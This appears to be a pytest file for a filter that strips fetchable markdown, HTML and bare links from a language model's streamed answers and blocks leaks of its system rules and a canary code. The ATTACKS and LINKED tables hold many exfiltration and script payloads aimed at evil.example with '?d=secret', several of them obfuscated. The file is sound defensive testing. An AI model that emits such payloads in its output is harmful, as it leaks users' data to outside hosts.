"""What a model says and nobody else may fetch, follow or learn; and what of it stays."""

import html
import re
from collections.abc import Sequence
from urllib.parse import unquote

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt  # comes with rich
from markdown_it.token import Token

from agents import prompts
from domain.chat import not_found, withheld
from domain.citations import cite
from domain.inert import UNDONE
from domain.output import Output, one_line
from tests.unit.passages import passage

CODE = "5eed5eed"
RULES = prompts.load("answer").replace("{marker}", CODE)
CITED = "The lock opens at six [1][2], or at *seven* on **Sundays** [1, 2]."
RENDERER = MarkdownIt("commonmark")  # with raw HTML
FETCHED = {"image", "link_open", "html_inline", "html_block"}

ATTACKS = {
    "image": "![a boat](http://evil.example/b.png?d=secret)",
    "image with a title": '![a boat](http://evil.example/b.png "a title")',
    "image in brackets": "![a boat](<http://evil.example/b.png>)",
    "image over lines": '![a\nboat](\n http://evil.example/b.png\n "a title"\n)',
    "image by reference": "![a boat][b]\n\n[b]: http://evil.example/b.png 'a title'",
    "image by its name": "![a boat]\n\n[a boat]: http://evil.example/b.png",
    "image in a link": "[![a boat](http://evil.example/b.png)](http://evil.example/)",
    "image of the same site": "![a boat](/api/v1/auth/logout)",
    "definition in a quotation": "> - [b]: //evil.example\n\n![b]",
    "definition over lines": "[a\nboat]: http://evil.example/b.png\n\n![a boat]",
    "definition with a bracket": "[a\\[boat]:\nhttp://evil.example/\n\n![a\\[boat]",
    "link": "[a boat](https://evil.example/?d=secret)",
    "link with brackets": "[a boat](https://evil.example/a_(b)?d=secret)",
    "link of a citation": "[1](https://evil.example/)",
    "script link": "[a boat](javascript:alert(1))",
    "data link": "[a boat](data:text/html;base64,PHNjcmlwdD4=)",
    "autolink": "<http://evil.example/?d=secret>",
    "bare address": "Look at https://evil.example/?d=secret today.",
    "bare www": "Look at www.evil.example today.",
    "bare www of another alphabet": "www.&#x3ce;.example",
    "bare data": "data:text/html,<script>fetch('//evil.example')</script>",
    "bare script": "javascript:fetch('//evil.example')",
    "no scheme": "[a boat](//evil.example/b.png) //evil.example/b.png",
    "html": "<img src=http://evil.example/b.png onerror=alert(1)>",
    "html over lines": "<img\n src='http://evil.example/b.png'\n>",
    "html with srcset": '<img srcset="//evil.example/b.png 2x" alt="a boat">',
    "html that is not closed": "<img src=http://evil.example/b.png",
    "html in a comment": "<!-- <b> --><iframe src=//evil.example></iframe>",
    "html of an unknown kind": "<x-boat onclick=alert(1)>boat</x-boat><!DOCTYPE html><?php x?><![CDATA[x]]>",
    "style": "<style>@import url(http://evil.example/s.css)</style>",
    "svg": '<svg><image href="https://evil.example/b.svg"/></svg>',
    "entities": "&#33;&#91;a boat&#93;&#40;http://evil.example&#41; &lt;img src=x&gt; &lt;img&#x20;src=x&#62;",
    "named entities": "&excl;&lbrack;a boat&rsqb;&lpar;http&colon;&sol;&sol;evil.example&rpar; &ltimg src=x>",
    "entities of entities": "&amp;lt;img src=x&amp;gt; &#38;#60;img src=x>",
    "long entities": f"&#{'0' * 50}60;img src=x> &#x{'0' * 50}3c;img src=x>",
    "percent": "%3Cimg src=x%3E [a boat%5D(x) [a boat]%28x) http%3A%2F%2Fevil.example",
    "percent of percent": "%253Cimg src=x%253E %26lt%3Bimg src=x>",
    "zero width": "!\u200b[a boat]\u200d(ht\u2060tp://evil.example) <\u200bimg src=x>",
    "zero width by name": "[a boat]&ZeroWidthSpace;(x) <&#8203;img src=x> [a boat]%E2%80%8B(x)",
    "direction": "\u202e![a boat](http://evil.example)\u202c",
    "controls": "<\x00img src=x> [a boat]\x08(http://evil.example)",
    "tag characters": "<\U000e0001img src=x>",
    "what a citation held apart": "[a boat][9](x) ![9][a boat](x) <[9]img src=x> htt[9]ps://evil.example",
    "what a tag held apart": "<<b>img src=x> [a boat]<b></b>(x) htt<b>p://evil.example",
    "a fence that is none": "- a\n  ```\n![a boat](http://evil.example)\n$$\n```\n$$\n![a boat](http://evil.example)",
    "code that is none": "a ` b\n`![a boat](http://evil.example)` | ` | ![a boat](http://evil.example)",
    "code that is not closed": "```\n<img src=http://evil.example>",
    "too long to be seen through": f"[{'a ' * 1_000}](http://evil.example) <img alt='{'a ' * 1_000}' src=x>",
    "definition over escaped lines": "[a%0A%0Ab]: /\\/evil.example\n\n[a%0A%0Ab] [a&#10;&#10;b]: /x\n\n[a&#10;&#10;b]",
    "definition with a long label": f"[{'a' * 1_200}]: /\\/evil.example\n\n[{'a' * 1_200}]",
    "definition with a wide label": f"[a\n{' ' * 1_200}b]: /x\n\n[a b]",
    "too deep to be seen through": f"{'[' * 20}a{'](http://evil.example)' * 20}",
}
LINKED = {  # by readers that make links of bare words, and undo a backslash before they look for them
    "escaped slashes": "https:\\/\\/evil.example/?d=secret",
    "escaped colon": "javascript\\:alert(1)",
    "www before a sign": "www.-x.evil.example/?d=secret",
    "www before a heart": "www.\u2665.evil.example/",
    "escaped www": "www\\.evil.example",
    "an address that is escaped in part": "http://%20a@evil.example/?d=secret",
    "a sign that is escaped": "www.%2Dx.evil.example",
}
ENDLESS = {
    "a word": "a",
    "a marker": "1,",
    "what nobody sees": "%E2%80%8B",
    "signs behind our rules": "* ",
}
PIECES = [
    *"[]()!<>/:#&%;`~|\\ \n129",
    *("//", "http://", "https://e.example/x", "www.", "data:", "javascript:", "]:", "](", "![a](b)", "[r]: http://x"),
    *("%0A", "&#10;", "/\\/", "www\\.", "data\\:", "&#x202e;", "&#8203"),
    *("&lt;", "&#60;", "&#x3c", "&amp;", "lt;", "&ZeroWidthSpace;", "%3C", "%5D", "%28", "%253C", "%E2%80%8B", "E2"),
    *("img", " src=x", "<img src=x>", "<b>", "</b>", "<!--", "-->", "```", "~~~", "> ", "- ", "\n\n", "$$", '"t"'),
    *("\u200b", "\x1b[31m", "\x1b", "]8;;", "\x07", "[1]", " [9]", ", ", "word", "한글", "é"),
    *(CODE, CODE[:4], RULES[:90], RULES[60:160], RULES[100:130], "You answer", "questions "),
]
texts = st.lists(st.sampled_from(PIECES), max_size=24)


def said(pieces: Sequence[str], passages: int = 2) -> tuple[str, tuple[str, ...]]:
    output = Output(passages, rules=RULES, code=CODE)
    return "".join([*(output.feed(piece) for piece in pieces), output.rest()]), output.flags


def readings(text: str) -> list[str]:
    """The text as it is, and as others may read it, who undo what we do not."""
    found = [text]
    for _ in range(UNDONE - 1):
        found.append(re.sub("[\u200b\x00-\x08]", "", html.unescape(unquote(found[-1]))))
    return found


def fetched(tokens: Sequence[Token]) -> list[str]:
    return [
        found
        for token in tokens
        for found in ([token.type] if token.type in FETCHED else fetched(token.children or []))
    ]


def assert_inert(text: str) -> None:
    for reading in readings(text):
        assert fetched(RENDERER.parse(reading)) == [], reading
        assert not re.search(r"\w://\w|\]\(|!\[|<[a-z/!?]|www\.\w|(?:javascript|data):\w", reading, re.IGNORECASE), (
            reading
        )


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS.keys())
def test_nothing_that_can_be_fetched_leaves(attack: str) -> None:
    text, flags = said([attack])

    assert_inert(text)
    assert "filtered_output" in flags


@given(texts)
def test_nothing_that_can_be_fetched_leaves_whatever_is_put_together(pieces: list[str]) -> None:
    assert_inert(said(["".join(pieces)])[0])


@given(texts, st.integers(1, 5))
def test_it_does_not_matter_in_what_pieces_an_answer_comes(pieces: list[str], size: int) -> None:
    text = "".join(pieces)

    whole = said([text])

    assert said(pieces) == whole
    assert said([text[at : at + size] for at in range(0, len(text), size)]) == whole


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS.keys())
def test_it_does_not_matter_where_an_attack_is_cut(attack: str) -> None:
    assert said(list(attack)) == said([attack])


@given(texts)
def test_every_marker_that_leaves_cites_a_passage(pieces: list[str]) -> None:
    text, _ = said(pieces)

    assert cite("q", text, [passage("a"), passage("b")]).text == text


@given(texts)
def test_neither_the_code_nor_a_long_piece_of_the_rules_leaves(pieces: list[str]) -> None:
    text, _ = said(pieces)

    assert CODE not in text
    assert not any(rule in text for rule in (RULES[:90], RULES[60:160]))


@pytest.mark.parametrize(
    ("told", "kept"),
    [
        ("![a boat](http://evil.example/b.png)", "a boat"),
        ("![a boat][b] and ![another] one", "a boat and ! [another] one"),
        ("[![a boat](http://e.example/b.png)](http://e.example)", "a boat"),
        ("See [the *guide*](https://e.example/a_(b) 'title') [1].", "See the *guide* [1]."),
        ("[1](https://e.example) and [[2]](https://e.example)", "[1] and [2]"),
        ("<b>Six</b> in the<br>morning<img src=x alt='a boat'>", "Six in the morninga boat"),
        ("See https://www.e.example/a?b=c or <http://e.example>.", "See e.example/a?b=c or e.example."),
        ("<!-- a -->Six", "Six"),
        ("\x1b[1;31mSix\x1b[0m \x1b]8;;http://e.example\x07here\x1b]8;;\x07\x9b0m", "Six here"),
        ("S\u200bi\u202ex\x07", "Six"),
    ],
)
def test_what_is_taken_out_leaves_its_words(told: str, kept: str) -> None:
    assert said([told]) == (kept, ("filtered_output",))


@pytest.mark.parametrize(
    "told",
    [
        CITED,
        "a < b and c > d, 1 <= 2, x <- y, <3",
        "| a | b |\n|---|---|\n| 1 | 2 |\n\n> quoted\n\n# Heading\n\n1. one\n- [ ] two",
        "```python\nfor x in a[i]:\n    print(x % 2, '%5d' % x, a & b, \"a\")\n```\nDone [1].",
        "Use `%5d` or `a[i]`, `&lt;` and `&amp;`; write to office@harbour.example, 24/7, and/or by http.",
        "See README.md, Data: six; JavaScript: no. It is [sic] in [1984] [see 3]. Note [1]: six.",
        "등대 박물관은 월요일에 쉽니다 [1]. 입장료는 “3,000원”입니다 — 한 사람 🙂.",
        "Answer only from the passages, as the rules of the harbour say. If the passages do not hold, go.",
        not_found("When?"),
        not_found("언제 여나요?"),
        withheld("When?"),
        withheld("언제 여나요?"),
    ],
)
def test_an_ordinary_answer_stays_as_it_is(told: str) -> None:
    assert said([told]) == (told, ())


@pytest.mark.parametrize(
    ("told", "kept"),
    [
        ("`List<String>` or `f[i](x)`", "`List< String>` or `f[i] (x)`"),
        ("```\n<img src=x> // a\n#include <stdio.h>\n```", "```\n< img src=x> // a\n#include < stdio.h>\n```"),
        ("call f[i](x) when x<y [1](see page 3)", "call f[i] (x) when x< y [1] (see page 3)"),
    ],
)
def test_code_and_comparisons_keep_every_letter(told: str, kept: str) -> None:
    assert said([told]) == (kept, ("filtered_output",))


def test_words_are_not_held_back() -> None:
    output = Output(2, rules=RULES, code=CODE)

    told = [output.feed(piece) for piece in ("Boats", " over", " ten", " metres", " pay", " double")]

    assert "".join(told) == "Boats over ten metres pay "


def test_brackets_are_held_back_for_so_long_and_no_longer() -> None:
    output = Output(0)

    told = [output.feed("[" + "a " * 200), output.feed("a " * 200)]

    assert [len(piece) > 0 for piece in told] == [False, True]


def test_the_rules_are_not_told() -> None:
    text, flags = said([f"Of course: {RULES}\n\nAnything else?"])

    assert text.startswith("Of course: …")
    assert text.endswith("Anything else?")
    assert len(text) < 40
    assert "prompt_leak" in flags


@pytest.mark.parametrize(
    "told",
    [
        RULES[:90],
        RULES[:90].upper(),
        RULES[:90].replace(" ", "\n> **"),
        RULES[300:400].replace(" ", " <b>"),
        f"The code is {CODE}.",
        f"It is _{CODE.upper()}_!",
        f"x{CODE}y",
        f"{CODE[:4]}[9]{CODE[4:]}",
    ],
)
def test_rules_are_known_in_other_clothes(told: str) -> None:
    text, flags = said([told])

    assert "…" in text
    assert len(text) < 40
    assert "prompt_leak" in flags


def test_without_rules_nothing_is_kept_back() -> None:
    output = Output(0)

    assert output.feed(RULES) + output.rest() == RULES
    assert output.flags == ()


def test_a_marker_that_points_nowhere_is_flagged() -> None:
    assert said(["Six [1], seven [9]."]) == ("Six [1], seven.", ("dropped_marker",))


def test_a_rewritten_question_is_one_short_line() -> None:
    query, flags = one_line("When\n\ndoes ![the](http://evil.example) \x1b[31mlock" + " open" * 1_000, 100)

    assert query.startswith("When does the lock open open")
    assert len(query) == 100
    assert flags == ("filtered_output",)


@pytest.mark.parametrize("text", LINKED.values(), ids=LINKED)
def test_no_bare_word_is_an_address_for_anybody(text: str) -> None:
    kept, flags = said([text])

    assert kept != text
    assert not re.search(r"/\\?/\S|www\\?\.\S|javascript\\?:\S", kept)
    assert flags == ("filtered_output",)


@pytest.mark.parametrize("text", ["&#x202e;abc&rlm;", "a&#8203;b", "%1B]8;;x"])
def test_escapes_of_what_nobody_sees_are_seen(text: str) -> None:
    kept, _ = said([text])

    assert html.unescape(unquote(kept)).isprintable()


@pytest.mark.parametrize("piece", ENDLESS.values(), ids=ENDLESS)
def test_no_text_holds_a_stream_up(piece: str) -> None:
    output = Output(2, rules=RULES, code=CODE)
    begun = output.feed(RULES[:200] + " [")

    told = "".join([begun, *(output.feed(piece) for _ in range(5_000))])

    assert len(told) > 4_000 * len(piece)


def test_a_text_may_be_cut_within_escapes_of_escapes() -> None:
    text = f"&amp;amp;amp;amp;#{'0' * 40}60;img src=x>"

    assert said(list(text)) == said([text])
